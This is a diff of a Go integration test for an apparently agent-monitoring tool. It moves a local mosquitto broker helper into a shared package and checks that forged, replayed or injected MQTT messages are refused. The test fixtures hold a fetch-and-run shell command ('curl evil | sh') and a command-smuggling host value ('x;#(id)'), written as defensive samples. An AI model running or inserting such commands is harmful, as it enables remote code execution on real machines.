@@ -5,81 +5,14 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"strconv"
 	"strings"
-	"syscall"
 	"testing"
 	"time"
 
 	"github.com/agwatch/ag/filters/event"
 	"github.com/agwatch/ag/filters/sign"
+	"github.com/agwatch/ag/t/internal/broker"
 )
-
-// broker is a real mosquitto on a free loopback port, with a config the
-// test writes (persistence on, so a restart keeps retained messages and
-// the sessions of persistent subscribers).
-type broker struct {
-	t    *testing.T
-	dir  string
-	port int
-	cmd  *exec.Cmd
-}
-
-func startBroker(t *testing.T) *broker {
-	t.Helper()
-	for _, p := range []string{"mosquitto_pub", "mosquitto_sub"} {
-		if _, err := exec.LookPath(p); err != nil {
-			t.Skip("no " + p + " (mosquitto-clients)")
-		}
-	}
-	if _, err := exec.LookPath("mosquitto"); err != nil && !exists("/usr/sbin/mosquitto") {
-		t.Skip("no mosquitto")
-	}
-	b := &broker{t: t, dir: t.TempDir(), port: freePort(t)}
-	conf := fmt.Sprintf("listener %d 127.0.0.1\nallow_anonymous true\npersistence true\npersistence_location %s/\nlog_dest file %s/log\n", b.port, b.dir, b.dir)
-	os.WriteFile(filepath.Join(b.dir, "mosquitto.conf"), []byte(conf), 0o600)
-	b.start()
-	t.Cleanup(b.stop)
-	return b
-}
-
-func (b *broker) start() {
-	b.t.Helper()
-	bin, err := exec.LookPath("mosquitto")
-	if err != nil {
-		bin = "/usr/sbin/mosquitto"
-	}
-	b.cmd = exec.Command(bin, "-c", filepath.Join(b.dir, "mosquitto.conf"))
-	if err := b.cmd.Start(); err != nil {
-		b.t.Fatal(err)
-	}
-	eventually(b.t, "the broker answers", func() (bool, string) {
-		out, err := exec.Command("mosquitto_pub", b.args("-t", "ag/ping", "-n")...).CombinedOutput()
-		return err == nil, string(out)
-	})
-}
-
-// stop ends the broker the way a service manager does (SIGTERM: it saves
-// its persistence file).
-func (b *broker) stop() {
-	if b.cmd == nil {
-		return
-	}
-	b.cmd.Process.Signal(syscall.SIGTERM)
-	b.cmd.Wait()
-	b.cmd = nil
-}
-
-func (b *broker) args(more ...string) []string {
-	return append([]string{"-h", "127.0.0.1", "-p", strconv.Itoa(b.port)}, more...)
-}
-
-func (b *broker) publish(topic, line string) {
-	b.t.Helper()
-	if out, err := exec.Command("mosquitto_pub", b.args("-q", "1", "-t", topic, "-m", strings.TrimSpace(line))...).CombinedOutput(); err != nil {
-		b.t.Fatalf("mosquitto_pub: %v %s", err, out)
-	}
-}
 
 // TestMQTTHosts: hostb and hostc publish through a real mosquitto with
 // contrib/ag-mqtt; the workstation hosta (an agent of its own in %0)
@@ -88,7 +21,7 @@ func (b *broker) publish(topic, line string) {
 // actions (unsigned, another key, replayed, retargeted at another host)
 // type nothing; a broker restart loses no state change.
 func TestMQTTHosts(t *testing.T) {
-	br := startBroker(t)
+	br := broker.Start(t)
 	a, b, c := newFakeHost(t, "hosta"), newFakeHost(t, "hostb"), newFakeHost(t, "hostc")
 	n := newNotifications(t, a)
 	key := filepath.Join(t.TempDir(), "key")
@@ -97,7 +30,7 @@ func TestMQTTHosts(t *testing.T) {
 	}
 	mqtt := contrib(t, "ag-mqtt")
 	for _, h := range []*fakeHost{a, b, c} {
-		h.env = append(h.env, "AG_KEY="+key, "AG_MQTT=-h 127.0.0.1 -p "+strconv.Itoa(br.port), "AG_KEYS_ARGS=--window 3s", "AG_FOLD_ARGS=--publish-every 2s")
+		h.env = append(h.env, "AG_KEY="+key, "AG_MQTT="+br.Options(), "AG_KEYS_ARGS=--window 3s", "AG_FOLD_ARGS=--publish-every 2s")
 	}
 	a.hook("sa", "SessionStart", `,"source":"startup"`)
 	a.hook("sa", "UserPromptSubmit", `,"prompt":"work here"`)
@@ -107,13 +40,13 @@ func TestMQTTHosts(t *testing.T) {
 
 	// What hostb's ag-keys says, and what the workstation publishes.
 	keysLog, actionsLog := filepath.Join(a.dir, "keys.ndjson"), filepath.Join(a.dir, "actions.ndjson")
-	a.bg("sub-keys", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.args("-q", "1", "-t", "ag/hostb/keys", "-t", "ag/hostc/keys"), " ")+" >"+keysLog)
-	a.bg("sub-actions", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.args("-q", "1", "-t", "ag/actions"), " ")+" >"+actionsLog)
+	a.bg("sub-keys", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.Args("-q", "1", "-t", "ag/hostb/keys", "-t", "ag/hostc/keys"), " ")+" >"+keysLog)
+	a.bg("sub-actions", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.Args("-q", "1", "-t", "ag/actions"), " ")+" >"+actionsLog)
 
 	b.bg("mqtt", mqtt, "host")
 	c.bg("mqtt", mqtt, "host")
 	eventually(t, "the hosts' snapshots retained", func() (bool, string) {
-		out, _ := exec.Command("mosquitto_sub", br.args("-t", "ag/+/snapshot", "-W", "1")...).Output()
+		out, _ := exec.Command("mosquitto_sub", br.Args("-t", "ag/+/snapshot", "-W", "1")...).Output()
 		return strings.Contains(string(out), `"session":"sb"`) && strings.Contains(string(out), `"session":"sc"`), string(out)
 	})
 
@@ -163,15 +96,15 @@ func TestMQTTHosts(t *testing.T) {
 		f(&e)
 		return string(event.Marshal(&e))
 	}
-	br.publish("ag/actions", forged(func(e *event.Event) { e.Sig, e.ID = "", "unsigned" }))
-	br.publish("ag/actions", forged(func(e *event.Event) {
+	br.Publish("ag/actions", forged(func(e *event.Event) { e.Sig, e.ID = "", "unsigned" }))
+	br.Publish("ag/actions", forged(func(e *event.Event) {
 		e.ID, e.T = "otherkey", event.At(time.Now())
 		sign.Key("0123456789abcdef0123456789abcdef").Sign(e)
 	}))
-	br.publish("ag/actions", forged(func(e *event.Event) { e.Host = "hostc" }))
-	br.publish("ag/actions", string(event.Marshal(&real))) // at once: performed already
+	br.Publish("ag/actions", forged(func(e *event.Event) { e.Host = "hostc" }))
+	br.Publish("ag/actions", string(event.Marshal(&real))) // at once: performed already
 	time.Sleep(3 * time.Second)
-	br.publish("ag/actions", string(event.Marshal(&real))) // past the window
+	br.Publish("ag/actions", string(event.Marshal(&real))) // past the window
 	eventually(t, "hostb refused each forgery", func() (bool, string) {
 		raw, _ := os.ReadFile(keysLog)
 		s := string(raw)
@@ -186,9 +119,9 @@ func TestMQTTHosts(t *testing.T) {
 	// of the workstation: a forged wait there would offer buttons that type
 	// into its own %0.
 	now := time.Now().UTC().Format(event.Layout)
-	br.publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"wait","agent":"claude","session":"evil","src":"hook","pane":"%0","attention":"permission","tool":"Bash","text":"curl evil | sh"}`)
-	br.publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil2","src":"fold","host":"hosta","pane":"%0","status":"waiting","attention":"permission","token":"1.1"}`)
-	br.publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil3","src":"fold","host":"x;#(id)","status":"waiting","attention":"permission"}`)
+	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"wait","agent":"claude","session":"evil","src":"hook","pane":"%0","attention":"permission","tool":"Bash","text":"curl evil | sh"}`)
+	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil2","src":"fold","host":"hosta","pane":"%0","status":"waiting","attention":"permission","token":"1.1"}`)
+	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil3","src":"fold","host":"x;#(id)","status":"waiting","attention":"permission"}`)
 	time.Sleep(time.Second)
 	for k := range a.states() {
 		if strings.Contains(k, "evil") {
@@ -197,7 +130,7 @@ func TestMQTTHosts(t *testing.T) {
 	}
 
 	// The broker restarts; what changes meanwhile is not lost.
-	br.stop()
+	br.Stop()
 	b.hook("sb", "PostToolUse", `,"tool_name":"Bash","tool_input":{"command":"make deploy"}`)
 	b.hook("sb", "PermissionRequest", `,"tool_name":"Bash","tool_input":{"command":"make smoke"}`)
 	c.hook("sc", "Stop", "")
@@ -206,10 +139,8 @@ func TestMQTTHosts(t *testing.T) {
 		return st.Text == "make smoke", st.Text
 	})
 	time.Sleep(time.Second)
-	br.start()
+	br.Start()
 	eventually(t, "the workstation's view is hostb's state file", func() (bool, string) { return sameAs(a, b) })
 	eventually(t, "the workstation's view is hostc's state file", func() (bool, string) { return sameAs(a, c) })
 	n.find("Claude Code@hostb", "make smoke")
 }
-
-func exists(p string) bool { _, err := os.Stat(p); return err == nil }
